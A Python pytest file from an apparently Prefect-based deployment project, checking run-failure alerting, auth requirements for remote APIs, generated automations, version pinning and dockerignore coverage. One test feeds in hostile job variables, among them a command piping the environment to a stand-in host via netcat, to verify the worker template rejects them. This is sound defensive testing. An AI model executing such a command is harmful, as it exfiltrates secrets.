"""What keeps unattended runs safe, checked without a server: one alert per failed run
whichever path sends it, a work pool whose runs cannot change the worker's settings, an API
that needs its login off the loopback, the automations `dondoc deploy` creates, and one
Prefect version everywhere (the real server and workers: test_run_endings.py)."""

from __future__ import annotations

import re
import tomllib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import SecretStr
from sqlalchemy import Engine, select

from demo.sinks import SmtpServer
from deploy.automations import (
    ALERT_AUTOMATION,
    MISSED_HEARTBEATS,
    ZOMBIE_AUTOMATION,
    alert_automation,
    zombie_automation,
)
from deploy.register import OVERRIDABLE, locked_job_template
from deploy.server import unauthenticated_api
from flows.alerting import ALERTED_FLOWS
from models.db import make_engine, session_factory
from models.outbox import RunAlert
from notifications.run_outages import STALE_CLAIM, alert_failed_run
from settings import Settings, SmtpSettings
from tests.support.escalation import SMTP_PASSWORD, SMTP_USER

ROOT = Path(__file__).resolve().parents[2]
DEPLOY = ROOT / "deploy"
ADMIN = "quan-tri@ubnd.example"
NOW = datetime(2024, 3, 19, 1, 5, tzinfo=UTC)


def alert_settings(smtp: SmtpServer) -> Settings:
    return Settings(
        admin_email=ADMIN,
        smtp=SmtpSettings(
            host=smtp.host,
            port=smtp.port,
            username=SMTP_USER,
            password=SecretStr(SMTP_PASSWORD),
            sender="dondoc@ubnd.example",
        ),
    )


def alert(engine: Engine, settings: Settings, run_id: str = "run-1", **kw: Any) -> bool:
    return alert_failed_run(
        session_factory(engine),
        settings=settings,
        flow_name="compile-report",
        run_name="clever-fox",
        run_id=run_id,
        error="disk full",
        now=NOW,
        **kw,
    )


def test_a_run_is_counted_once_whichever_path_comes_second(
    engine: Engine, smtp: SmtpServer
) -> None:
    settings = alert_settings(smtp)
    assert alert(engine, settings, state="Crashed")  # e.g. the run's on_crashed hook
    assert not alert(engine, settings, state="Crashed")  # the server's alert flow, later
    assert not alert(engine, settings, run_id="run-2")  # the flow still failing: counted
    [mail] = smtp.received()
    assert mail.rcpt_tos == (ADMIN,)
    assert "lượt tổng hợp báo cáo" in mail.message["Subject"]
    assert "bị dừng giữa chừng" in mail.text and "run-1" in mail.text
    with session_factory(engine)() as session:
        rows = session.scalars(select(RunAlert).order_by(RunAlert.flow_run_id)).all()
    assert [(r.flow_run_id, r.sent_at) for r in rows] == [("run-1", NOW), ("run-2", NOW)]


def test_an_alert_that_could_not_be_sent_can_be_sent_later(
    engine: Engine, smtp: SmtpServer
) -> None:
    settings = alert_settings(smtp)
    smtp.stop()
    with pytest.raises(Exception):  # noqa: B017 (whatever the mail library raises)
        alert(engine, settings)
    smtp.start()
    assert alert(engine, settings)  # the claim was released: the other path may still send
    assert len(smtp.received()) == 1


def test_a_broken_database_still_lets_the_alert_out(tmp_path: Path, smtp: SmtpServer) -> None:
    empty = make_engine(f"sqlite:///{tmp_path / 'no-tables.sqlite3'}")  # what may have failed
    settings = alert_settings(smtp).model_copy(update={"data_dir": tmp_path / "var"})
    assert alert(empty, settings)
    assert len(smtp.received()) == 1


def test_job_variables_cannot_set_the_environment_or_the_command() -> None:
    from prefect.utilities.asyncutils import run_coro_as_sync
    from prefect.workers.process import ProcessJobConfiguration

    template = locked_job_template()
    assert set(template["variables"]["properties"]) == set(OVERRIDABLE)
    # What the worker builds for a run started with these job variables (its own merge rules).
    evil = {
        "env": {"DONDOC_SMTP__HOST": "smtp.evil.invalid"},
        "env.DONDOC_ADMIN_EMAIL": "x@evil.invalid",
        "command": "sh -c 'env | nc evil.invalid 25'",
        "working_dir": "/tmp",
        "name": "my-run",
    }
    no_api: Any = object()  # the template names no block or variable: the API is not asked
    config = run_coro_as_sync(
        ProcessJobConfiguration.from_template_and_values(template, evil, client=no_api)
    )
    assert config is not None
    assert config.env == {} and config.command is None and config.working_dir is None
    assert config.name == "my-run"


@pytest.mark.parametrize(
    ("url", "auth", "unsafe"),
    [
        ("http://127.0.0.1:4200/api", None, False),
        ("http://localhost:4200/api", None, False),
        ("http://[::1]:4200/api", None, False),
        ("http://prefect-server:4200/api", None, True),
        ("https://prefect.ubnd.example/api", None, True),
        ("http://10.0.0.5:4200/api", None, True),
        ("http://10.0.0.5:4200/api", "admin:s3cret", False),
    ],
)
def test_an_api_off_this_machine_needs_its_login(url: str, auth: str | None, unsafe: bool) -> None:
    problem = unauthenticated_api(url, auth)
    assert (problem is not None) == unsafe
    if problem:
        assert "PREFECT_API_AUTH_STRING" in problem and "chưa được đặt" in problem


def test_the_zombie_automation_waits_for_missed_heartbeats_then_crashes_the_run() -> None:
    automation = zombie_automation(60).model_dump(mode="json")
    trigger = automation["trigger"]
    assert automation["name"] == ZOMBIE_AUTOMATION
    assert trigger["posture"] == "Proactive" and trigger["within"] == 60 * MISSED_HEARTBEATS
    assert trigger["after"] == ["prefect.flow-run.heartbeat"]
    assert set(trigger["expect"]) == {
        "prefect.flow-run.heartbeat",
        "prefect.flow-run.Completed",
        "prefect.flow-run.Failed",
        "prefect.flow-run.Cancelled",
        "prefect.flow-run.Crashed",
    }
    assert trigger["for_each"] == ["prefect.resource.id"]
    [action] = automation["actions"]
    assert action["type"] == "change-flow-run-state" and action["state"] == "CRASHED"


def test_the_alert_automation_runs_the_alert_flow_for_crashed_scheduled_runs() -> None:
    deployment_id = "2c0b4a44-3f0e-4f53-9a55-1e0d2b1f6f7d"
    automation = alert_automation(deployment_id, ALERTED_FLOWS).model_dump(mode="json")  # type: ignore[arg-type]
    trigger = automation["trigger"]
    assert automation["name"] == ALERT_AUTOMATION
    assert trigger["expect"] == ["prefect.flow-run.Crashed"]
    assert trigger["match_related"]["prefect.resource.name"] == [
        "check-and-escalate",
        "collect-submissions",
        "compile-report",
    ]
    [action] = automation["actions"]
    assert action["type"] == "run-deployment" and action["deployment_id"] == deployment_id
    assert action["parameters"] == {"flow_run_id": "{{ event.resource.id }}"}


# ----------------------------------------------------------------------------- packaging


def test_one_prefect_version_everywhere() -> None:
    from importlib.metadata import version

    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    [pin] = [d for d in pyproject["project"]["dependencies"] if d.startswith("prefect")]
    pinned = pin.removeprefix("prefect==")
    assert pinned != pin, f"prefect is not pinned: {pin}"
    compose = yaml.safe_load((DEPLOY / "compose.yaml").read_text(encoding="utf-8"))
    image = compose["services"]["prefect-server"]["image"]
    assert image.startswith(f"prefecthq/prefect:{pinned}-"), image
    prefect_yaml = yaml.safe_load((DEPLOY / "prefect.yaml").read_text(encoding="utf-8"))
    assert prefect_yaml["prefect-version"] == pinned
    assert version("prefect") == pinned
    # The worker image installs the package, so pyproject's pin: no other Prefect install.
    assert "prefect" not in (DEPLOY / "Dockerfile").read_text(encoding="utf-8").split("RUN")[-1]


@pytest.mark.parametrize(
    "secret",
    [".env", "deploy/dondoc.env", "deploy/prod.env", "dondoc.sqlite3", "var/reports/x.docx"],
)
def test_no_secret_or_local_data_reaches_the_image(secret: str) -> None:
    ours = (ROOT / ".dockerignore").read_text(encoding="utf-8")
    assert ours == (DEPLOY / "Dockerfile.dockerignore").read_text(encoding="utf-8")
    patterns = [p for p in ours.splitlines() if p and not p.startswith("#")]
    assert ignored(secret, patterns), secret
    assert not ignored("settings/__init__.py", patterns)
    assert not ignored("deploy/dondoc.env.example", patterns)


def ignored(path: str, patterns: list[str]) -> bool:
    """Docker's rule: the last matching pattern wins; `**` spans folders; a folder's pattern
    covers what is inside it."""
    result = False
    for pattern in patterns:
        negate = pattern.startswith("!")
        body = pattern.removeprefix("!").rstrip("/")
        regex = re.escape(body).replace(r"\*\*/", "(.*/)?").replace(r"\*", "[^/]*")
        if re.fullmatch(f"{regex}(/.*)?", path):
            result = not negate
    return result


def test_the_worker_units_stop_so_runs_end_in_a_true_state() -> None:
    unit = (DEPLOY / "systemd" / "dondoc-worker@.service").read_text(encoding="utf-8")
    settings = dict(
        line.split("=", 1) for line in unit.splitlines() if "=" in line and line[0] != "#"
    )
    assert settings["KillSignal"] == "SIGTERM" and settings["KillMode"] == "mixed"
    assert int(settings["TimeoutStopSec"]) > 30  # the worker's grace for each flow process
    compose = yaml.safe_load((DEPLOY / "compose.yaml").read_text(encoding="utf-8"))
    worker = compose["services"]["worker"]
    assert worker["init"] is True and worker["stop_signal"] == "SIGTERM"
    assert int(worker["stop_grace_period"].removesuffix("s")) > 30
    server = compose["services"]["prefect-server"]["environment"]
    assert "PREFECT_AUTH_STRING" in server["PREFECT_SERVER_API_AUTH_STRING"]
    assert "PREFECT_AUTH_STRING" in compose["x-dondoc"]["environment"]["PREFECT_API_AUTH_STRING"]


def test_every_path_the_deploy_guide_names_exists() -> None:
    guide = (ROOT / "docs" / "deploy.md").read_text(encoding="utf-8")
    folders = "deploy|docs|settings|models|notifications|portal|flows"
    named = set(re.findall(rf"`((?:{folders})/[^`\s]*)`", guide))
    assert named
    made_by_the_admin = {"deploy/dondoc.env"}  # copied from deploy/dondoc.env.example
    missing = sorted(p for p in named - made_by_the_admin if not (ROOT / p.rstrip("/")).exists())
    assert missing == []
    # Installed as the guide says, the source tree is /opt/dondoc: what the units point to.
    unit = DEPLOY / "systemd" / "dondoc-worker@.service"
    assert "/opt/dondoc/docs/deploy.md" in unit.read_text(encoding="utf-8")
    assert "cp -a" in guide or "git clone" in guide


def test_a_claim_left_unsent_by_a_killed_process_is_taken_over(
    engine: Engine, smtp: SmtpServer
) -> None:
    """The run's on_crashed hook claimed the run and was killed before mailing: the server's
    alert flow, later, still sends the one mail; a fresh claim is still respected."""
    with session_factory(engine).begin() as session:
        session.add(RunAlert(flow_run_id="run-1", flow_name="compile-report", claimed_at=NOW))
        session.add(RunAlert(flow_run_id="run-2", flow_name="compile-report", claimed_at=NOW))
    settings = alert_settings(smtp)
    later = alert_failed_run(
        session_factory(engine),
        settings=settings,
        flow_name="compile-report",
        run_name="clever-fox",
        run_id="run-1",
        error="killed",
        now=NOW + STALE_CLAIM + timedelta(seconds=1),
        state="Crashed",
    )
    assert later
    assert not alert(engine, settings, run_id="run-2")  # being sent right now: left alone
    assert [m.rcpt_tos for m in smtp.received()] == [(ADMIN,)]
    assert not alert(engine, settings, run_id="run-1")  # sent: never again
    assert len(smtp.received()) == 1
